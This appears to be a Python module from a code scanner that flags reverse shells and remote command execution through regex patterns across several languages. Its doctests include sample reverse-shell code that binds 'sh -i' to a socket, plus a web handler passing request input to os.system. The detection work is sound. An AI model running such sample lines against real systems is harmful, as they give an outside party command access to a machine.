"""Does a program let somebody elsewhere type commands?

A connection is no finding, and neither is a shell. Two things are: a shell of which what it reads and what it writes is a
connection, and a line that is read from a connection and run. Both are told by the text of the program, in whatever language.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from metier.govern.scan.flow import Step
from metier.govern.scan.hosts import Place
from metier.govern.scan.labels import ASKED
from metier.govern.scan.purpose import Purpose
from metier.govern.scan.seen import Seen, place_of_step
from metier.verdict import Severity

_WORDS = ("ocket", "onnect(", "_connection(", "fsockopen", "mqtt", ".accept(", "Dial", "TcpStream", "TcpClient")
"""What opens a connection holds one of them."""
_TYING = (".fileno()", "stdin", "stdio", "in:", "=>", "pipeTo", "from_raw_fd")
_HEARING = (".recv", "readline(", "readuntil(", "receive(", ".gets(", ".makefile(", ".payload", "<$", "< $")
"""What is read from a connection, and what is bound to one, holds one of them; or it is handed over as data."""
_LINES = (
    ".gets",
    "fgets(",
    "fread(",
    "socket_read(",
    "stream_get_line(",
    "bufio.New",
    "BufReader::new(",
    "eadLine",
    "each_line",
)
"""What reads lines, in languages that hand them to a program by ways of their own, holds one of them."""
_HANDED_DATA = re.compile(r"data(?<!\wdata)\(")
_RUNS = r"(?:create_subprocess_(?:shell|exec)|getoutput|getstatusoutput|check_output|(?:subprocess|sp)\.\w+|os\.(?:system|popen)|io\.popen|\bpopen|\bsystem|\bexec(?:Sync)?|\bspawn(?:Sync)?|\beval)\(\s*"
_SHELL = r"[\"'](?:/bin/)?(?:ba|z|da)?sh[\"']"
_TIED = re.compile(
    r"\bstdin\s*=\s*(?P<fd>\w+)\.fileno\(\)|\bstdin\s*=\s*(?P<py>(?!PIPE|DEVNULL|None|sys\b|subprocess\b)\w+)\s*,\s*stdout\s*=\s*(?P=py)\b"
    r"|\bstdio\s*:\s*\[\s*(?P<js>[A-Za-z_$]\w*)\s*,\s*(?P=js)\b"
    r"|\bin:\s*(?P<rb>[A-Za-z_]\w*)\s*,\s*out:\s*(?P=rb)\b"
    r"|\b0\s*=>\s*(?P<php>\$\w+)\s*,\s*1\s*=>\s*(?P=php)\b"
    r"|\.readable\.pipeTo\(\s*\w+\.stdin\b|\.stdin\.write\(\s*\w+\.recv\("
    rf"|Command::new\(\s*{_SHELL}[\s\S]{{0,200}}from_raw_fd\("
)
"""What a shell reads and writes is a connection."""
_HEARD = re.compile(
    rf"\b(?P<read>\w+)\s*=\s*(?:await\s+)?(?:(?P<of>\w+)\.(?:readline|readuntil|gets)|[\w.]+[.:](?:recv(?:from)?|receive))\([^\n]{{0,80}}[\s\S]{{0,240}}?{_RUNS}(?P=read)\b"
    rf"|\.makefile\([\s\S]{{0,240}}?\bfor\s+(?P<line>\w+)\s+in\s[\s\S]{{0,160}}?{_RUNS}(?P=line)\b"
    rf"|{_RUNS}\w+\.(?:recv(?:from)?\(|payload\b)"
    r"|while\s*\(\s*(?:my\s+\$\w+\s*=\s*)?<\s*\$\w+\s*>\s*\)[\s\S]{0,160}?(?:\bqx\b|`\s*\$|\bsystem\s*\(?\s*\$|\bexec\s*\(?\s*\$)"
    r"|\bdata\(\s*\w+\s*,\s*(?P<data>\w+)\s*\)[\s\S]{0,200}?\b(?:spawn|exec)\w*\([^\n]{0,60}\b(?P=data)\b"
)
"""What is read from a connection is run."""


_STARTED_BY = r"(?:\"(?:/bin/)?\w{0,4}sh\"|\"cmd(?:\.exe)?\"|\"(?:powershell|pwsh)(?:\.exe)?\")"
_LINE_RUN = re.compile(
    r"\b(?P<go>\w{1,60})\s*:?=\s*bufio\.New(?:Scanner|Reader)\(\s*(?P<conn>\w+)\s*\)[\s\S]{0,300}?\b(?P=go)\.(?:Text|Bytes|Read(?:String|Line|Bytes))\([\s\S]{0,240}?"
    rf"\bexec\.Command(?:Context)?\(\s*(?:\w+\s*,\s*)?(?:{_STARTED_BY}\s*,\s*(?:\"[-/]\w{{1,12}}\"\s*,\s*){{1,3}})?(?![\"`])\w"
    r"|\bBufReader::new\(\s*&?\s*(?:mut\s+)?(?P<stream>\w+)[^\n]{0,40}\)[\s\S]{0,240}?(?:\.lines\(|\.read_(?:line|until)\()[\s\S]{0,300}?"
    rf"\bCommand::new\(\s*(?:{_STARTED_BY}\s*\)\s*(?:\.args?\(\s*\[?\s*\"[-/]\w{{1,12}}\"\s*\)?\s*){{1,3}}(?:\.args?\(|,)\s*)?(?![\"`])[&*\w]"
    r"|\b(?P<line>\w+)\s*=\s*(?P<of>\w+)\.gets\b[\s\S]{0,240}?(?:`\s*#\{\s*|%x[\[({]\s*#\{\s*|\b(?:system|exec|spawn|eval|popen\w*|capture\w*)\s*\(?\s*)(?P=line)\b"
    r"|\b(?P<each>\w+)\.each_line\b[^|\n]{0,20}\|\s*(?P<one>\w+)\s*\|[\s\S]{0,200}?(?:`\s*#\{\s*|%x[\[({]\s*#\{\s*|\b(?:system|exec|spawn|eval|popen\w*|capture\w*)\s*\(?\s*)(?P=one)\b"
    r"|(?P<said>\$\w+)\s*=\s*(?:\w+\(\s*)?(?:fgets|fread|socket_read|stream_get_line)\(\s*(?P<php>\$\w+)[\s\S]{0,240}?(?:(?:shell_exec|exec|system|passthru|popen|proc_open|eval)\(\s*(?:\w+\(\s*)?|`\s*)(?P=said)\b"
    r"|\b(?P<read>\w+)\s*=\s*(?:await\s+)?(?P<reader>\w+)\.[rR]eadLine(?:Async)?\(\)[\s\S]{0,300}?(?:Process\.Start\(|ProcessStartInfo\(|\bArguments\s*=|\.exec\(|\bProcessBuilder\()[^\n]{0,120}\b(?P=read)\b"
)
"""A line that is read from a connection is the program that is started, or what a shell is handed."""
_ENDS = ("conn", "stream", "of", "each", "php", "reader")
"""Which names hold a connection."""
_SHELLS = r"(?:os\.(?:system|popen)|(?:getoutput|getstatusoutput|create_subprocess_shell|execSync|shell_exec)|(?:(?<![\w.])|\bcp\.|\bchild_process\.)(?:exec|eval))"
_ARGUMENT = r"(?:(?:self|this)\.)?([A-Za-z_]\w{0,60})\b(?!\s*[\[.(])"
_BY_SHELL = rf"\(\s*\[?\s*{_SHELL}\s*,\s*\[?\s*[\"']-\w*c[\"']\s*,\s*"
_RUNS_NAME = re.compile(
    rf"{_SHELLS}\(\s*(?:str\(\s*)?{_ARGUMENT}|\b(?:run|Popen|call|check_output|check_call|spawn|spawnSync)\(\s*{_ARGUMENT}(?=[^\n]{{0,300}}shell\s*[=:]\s*[Tt]rue)|\w{_BY_SHELL}{_ARGUMENT}"
)
"""A name is handed to a shell as it is."""
_FROM_REQUEST = rf"(?:await\s+)?(?:[A-Za-z_]\w{{0,40}})?(?:{ASKED})"
_RUNS_AT_ONCE = re.compile(
    rf"{_SHELLS}\(\s*(?:str\(\s*)?{_FROM_REQUEST}|\b(?:run|Popen|call|check_output|check_call|spawn|spawnSync)\(\s*{_FROM_REQUEST}(?=[^\n]{{0,300}}shell\s*[=:]\s*[Tt]rue)|\w{_BY_SHELL}{_FROM_REQUEST}"
)
_OF_ITSELF = re.compile(r"\bself\.(?:path|headers)\b")
_SERVES = re.compile(r"BaseHTTPRequestHandler|\bdo_(?:GET|POST|PUT)\b|http\.server")
"""Only of a handler of requests these are what somebody asks."""
_AT_HOME = re.compile(r"[\"'](?:127\.0\.0\.1|localhost|::1)[\"']")
_MEANT = r"\bremote\b|terminal|\bshell\b|run(?:s|ning)?\s+commands?|execut|\brunner\b|sandbox"


def controlled(steps: Sequence[Step], purpose: Purpose, text: str) -> Iterator[Seen]:
    """A shell at the other end of a connection.

    Args:
        steps: Every step of a program.
        purpose: What the package says that it is for.
        text: The steps, a line each.

    >>> from metier.govern.scan.statement import Statement
    >>> lines = ["s = socket.create_connection(AT)", "subprocess.call(['sh', '-i'], stdin=s.fileno(), stdout=s.fileno())"]
    >>> steps = [Step(Statement("a.py", n, line), frozenset()) for n, line in enumerate(lines)]
    >>> [(seen.rule, seen.severity.value) for seen in controlled(steps, Purpose(), "\\n".join(lines))]
    [('reverse-shell', 'block')]
    """
    if not any(word in text for word in _WORDS):
        return
    tied = _TIED.search(text) if any(word in text for word in _TYING) else None
    may_hear = any(word in text for word in _HEARING) or _HANDED_DATA.search(text)
    found = tied or (_HEARD.search(text) if may_hear else None)
    if found is None and any(word in text for word in _LINES):
        found = next((line for line in _LINE_RUN.finditer(text) if _is_heard(line, text)), None)
    if found is None or _is_at_home(steps, purpose):
        return
    said = found.groupdict()
    name = said.get("fd") or said.get("of")
    if name and found.re is not _LINE_RUN and not _is_connection(name, text):
        return
    step = steps[min(text.count("\n", 0, found.start()), len(steps) - 1)]
    if tied is not None:
        yield Seen("reverse-shell", Severity.BLOCK, step, "over a connection")
    else:
        yield Seen("remote-command", Severity.BLOCK, step, "line by line from a connection")


def asked(steps: Sequence[Step], purpose: Purpose, text: str) -> Iterator[Seen]:
    """A program runs whatever it is asked to by whoever reaches it.

    Args:
        steps: Every step of a program.
        purpose: What the package says that it is for.
        text: The steps, a line each.

    >>> from metier.govern.scan.flow import follow, label
    >>> from metier.govern.scan.python import python_statements
    >>> text = "cmd = request.args['c']\\nos.system(cmd)\\napp.run(host='0.0.0.0')"
    >>> steps = label(python_statements(text, "a.py"))
    >>> follow(steps)
    >>> [(seen.rule, seen.severity.value) for seen in asked(steps, Purpose(), text)]
    [('remote-command', 'block')]
    """
    for step in steps:
        origin = step.received.get("asked")
        if origin is None or (_OF_ITSELF.search(origin.text) and not _SERVES.search(text)):
            continue
        if "execute" in step.labels and _runs_asked(step):
            grave = not _AT_HOME.search(text) and not purpose.says(_MEANT)
            weight = Severity.BLOCK if grave else Severity.REVIEW
            yield Seen("remote-command", weight, step, "as whoever reaches it asks")
            return


def _runs_asked(step: Step) -> bool:
    """Whether a step hands to a shell, as it is, what somebody asked."""
    if "asked" in step.labels:
        return _RUNS_AT_ONCE.search(step.text) is not None
    names = step.through.get("asked", frozenset())
    return any((found[1] or found[2] or found[3]) in names for found in _RUNS_NAME.finditer(step.text))


def _is_heard(line: re.Match[str], text: str) -> bool:
    """Whether a line that is run comes from a connection, in the program or in what its function is handed."""
    name = next(end for key in _ENDS if (end := line[key]))
    handed = rf"(?<!\w){re.escape(name)}\s*:?\s*(?:&?\s*mut\s+|[&*])?(?:\w+(?:\.|::))*(?:Conn|TCPConn|TcpStream)\b"
    return _is_connection(name, text) or re.search(handed, text) is not None


def _is_connection(name: str, text: str) -> bool:
    """Whether a name is given to something that is connected."""
    opens = r"(?:ocket|onnect|makefile|accept|Accept|fsockopen|socket_client|Dial|GetStream|getInputStream)\w*\("
    made = rf"(?<!\w){re.escape(name)}\b[\w, )]{{0,40}}=[^\n=][^\n]{{0,120}}{opens}|\bnew\s+(?:java\.net\.)?(?:Socket|TcpClient)\([\s\S]{{0,600}}(?<!\w){re.escape(name)}\s*=[^\n]{{0,120}}Reader\("
    return re.search(made, text) is not None


def _is_at_home(steps: Sequence[Step], purpose: Purpose) -> bool:
    """Whether all that a program connects to is the machine that it runs on."""
    places = [place_of_step(step, purpose) for step in steps if step.urls]
    return bool(places) and all(place == Place.LOCAL for place in places)
